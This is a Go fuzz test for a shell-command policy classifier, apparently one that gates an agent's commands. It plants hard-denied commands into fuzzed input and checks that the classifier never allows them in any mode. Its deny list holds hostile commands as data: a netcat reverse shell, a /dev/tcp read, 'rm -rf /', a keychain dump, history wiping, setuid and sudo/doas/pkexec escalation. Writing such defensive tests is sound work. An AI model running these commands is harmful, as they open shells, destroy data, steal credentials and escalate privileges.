package policy

import (
	"reflect"
	"regexp"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

// deniedStatements are hard-denied commands for FuzzClassify to plant:
// each is a statement of plain unquoted words.
var deniedStatements = []string{
	"sudo id",
	"rm -rf /",
	"osascript -e x",
	"nc -e /bin/sh h 1",
	"security dump-keychain",
	"history -c",
	"chmod u+s x",
	"cat /dev/tcp/h/1",
	"crontab x",
	"doas true",
	"pkexec id",
}

// FuzzClassify checks the classifier's invariants on any input; the seed
// corpus is in testdata/fuzz/FuzzClassify. The property it holds for
// hard-denied commands is this: if the parsed program (as mvdan.cc/sh's
// own syntax.Walk sees it, functions, loops, substitutions and here-doc
// bodies included) holds a simple command whose words are literally one of
// deniedStatements, Classify never allows it, in any mode or with rules
// that allow everything, and it denies it whenever the command is within
// the parse limits. The statement is planted at the end, at the start, and
// at the offset at inside the input, which reaches statements nested in
// whatever the input opens there.
func FuzzClassify(f *testing.F) {
	fx := newFixture(f)
	modes := []Mode{ModeAsk, ModeAllow, ModeReadOnly, ModeDeny}
	classifiers := make(map[string]*Classifier)
	for _, m := range modes {
		classifiers[string(m)] = fx.classifier(f, fx.config(m))
	}
	loose := fx.config(ModeAllow)
	loose.Allow = []*regexp.Regexp{regexp.MustCompile(`.*`)}
	var prefixes []FileRule
	for _, d := range deniedStatements {
		w := strings.Fields(d)
		prefixes = append(prefixes, FileRule{Prefix: w[0], words: w[:1]})
	}
	loose.File = &File{Path: "policy.yaml", Allow: prefixes, SafeCommands: []string{"nc", "cat"}}
	classifiers["allow-everything"] = fx.classifier(f, loose)

	f.Add(hermesReadProbe, uint16(0), uint8(0))
	f.Fuzz(func(t *testing.T, cmd string, at uint16, which uint8) {
		for name, c := range classifiers {
			v := c.Classify(cmd, fx.ws)
			checkInvariants(t, name, v, cmd)
			checkDecideMatches(t, name, c, v, cmd, fx.ws)
		}
		if err := sameWalk(cmd); err != nil {
			t.Errorf("walkNodes and syntax.Walk differ on %q: %v", cmd, err)
		}
		d := deniedStatements[int(which)%len(deniedStatements)]
		off := 0
		if len(cmd) > 0 {
			off = int(at) % (len(cmd) + 1)
		}
		for _, full := range []string{cmd + "\n" + d, d + "\n" + cmd, cmd[:off] + "\n" + d + "\n" + cmd[off:]} {
			if !runsStatement(full, d) {
				continue
			}
			within := len(full) <= MaxCommandBytes && rawNesting(full) <= maxRawNesting
			for name, c := range classifiers {
				v := c.Classify(full, fx.ws)
				if v.Decision == Allow || within && v.Decision != Deny {
					t.Errorf("%s: Classify(%q) = %s (%s), want deny: it runs %q", name, full, v.Decision, v.Rule, d)
				}
			}
		}
	})
}

// checkInvariants checks what holds of every verdict.
func checkInvariants(t *testing.T, name string, v Verdict, cmd string) {
	t.Helper()
	switch v.Decision {
	case Allow, Ask, Deny:
	default:
		t.Fatalf("%s: Classify(%q) decision %q", name, cmd, v.Decision)
	}
	if v.Rule == "" || v.Reason == "" {
		t.Errorf("%s: Classify(%q) has an empty rule or reason: %+v", name, cmd, v)
	}
	if (v.Decision == Ask) != (v.Approval == "") {
		t.Errorf("%s: Classify(%q) = %s with approval %q", name, cmd, v.Decision, v.Approval)
	}
	if name == string(ModeAsk) && v.Decision == Allow && v.Approval == ByPolicy && !v.Safe {
		t.Errorf("ask mode allowed %q by policy, but it is not safe (rule %s)", cmd, v.Rule)
	}
	if name == string(ModeDeny) && v.Decision == Allow {
		t.Errorf("deny mode allowed %q (rule %s)", cmd, v.Rule)
	}
	if name == string(ModeReadOnly) && v.Decision == Allow && !v.Safe {
		t.Errorf("read-only mode allowed %q, which is not safe (rule %s)", cmd, v.Rule)
	}
}

// runsStatement reports whether src parses and its program, as the
// parser's own walk sees it, holds a simple command whose words are the
// unquoted literal words of stmt, with no assignments before them.
func runsStatement(src, stmt string) bool {
	if strings.ContainsRune(src, 0) {
		return false
	}
	f, err := parseBash(src)
	if err != nil {
		return false
	}
	want := strings.Fields(stmt)
	found := false
	syntax.Walk(f, func(n syntax.Node) bool {
		ce, ok := n.(*syntax.CallExpr)
		if found || !ok || len(ce.Assigns) != 0 || len(ce.Args) != len(want) {
			return !found
		}
		for i, w := range ce.Args {
			if w.Lit() != want[i] {
				return true
			}
		}
		found = true
		return false
	})
	return found
}

// checkDecideMatches fails unless Decide gives v, Classify's verdict for
// cmd, without its list of commands.
func checkDecideMatches(t *testing.T, name string, c *Classifier, v Verdict, cmd, cwd string) {
	t.Helper()
	v.Commands = nil
	if got := c.Decide(cmd, cwd); !reflect.DeepEqual(got, v) {
		t.Errorf("%s: Decide(%q) = %+v, want Classify's %+v", name, cmd, got, v)
	}
}
